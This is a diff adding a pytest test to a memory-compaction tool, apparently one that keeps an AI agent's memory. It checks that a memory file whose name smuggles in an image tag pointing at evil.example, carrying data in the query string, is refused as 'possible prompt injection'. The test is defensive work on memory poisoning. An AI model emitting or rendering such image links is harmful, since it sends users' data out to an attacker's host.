@@ -41,6 +41,24 @@ def test_a_companion_folder_that_is_a_file_is_refused_before_anything_is_made(
     )
 
 
+@pytest.mark.parametrize("digest_chars", [2000, 120])
+def test_a_day_whose_name_the_build_refuses_is_not_compacted(make_project, hotplex, digest_chars):
+    """A day is read under a heading of its name, and its month's digest lines name it: a name
+    holding an unclicked image was refused only when its digest line made the month's text
+    refused (and then at the month), and folded without a word when the digest had no room."""
+    extra = f"digest_chars = {digest_chars}"
+    project = make_project(memory_days(25), MEMORY_MANIFEST.format(extra=extra))
+    oldest = sorted((project / MEMORY).glob("*.md"))[0]
+    named = oldest.with_name(f"{oldest.stem}-<img src=https:evil.example?d={'A' * 60}>.md")
+    named.write_text("- met acme\n")
+    before = project_files(project)
+    done = hotplex("memory", "compact", cwd=project)
+    assert done.status == 1, done.stdout
+    assert f"{MEMORY}/{named.name}: not compacted: possible prompt injection" in done.stderr
+    assert "(rule image-url-data)" in done.stderr
+    assert project_files(project) == before
+
+
 @pytest.mark.parametrize("step", range(1, 7))
 def test_a_run_killed_at_any_write_leaves_a_rerun_that_writes_every_history(
     make_project, hotplex, step
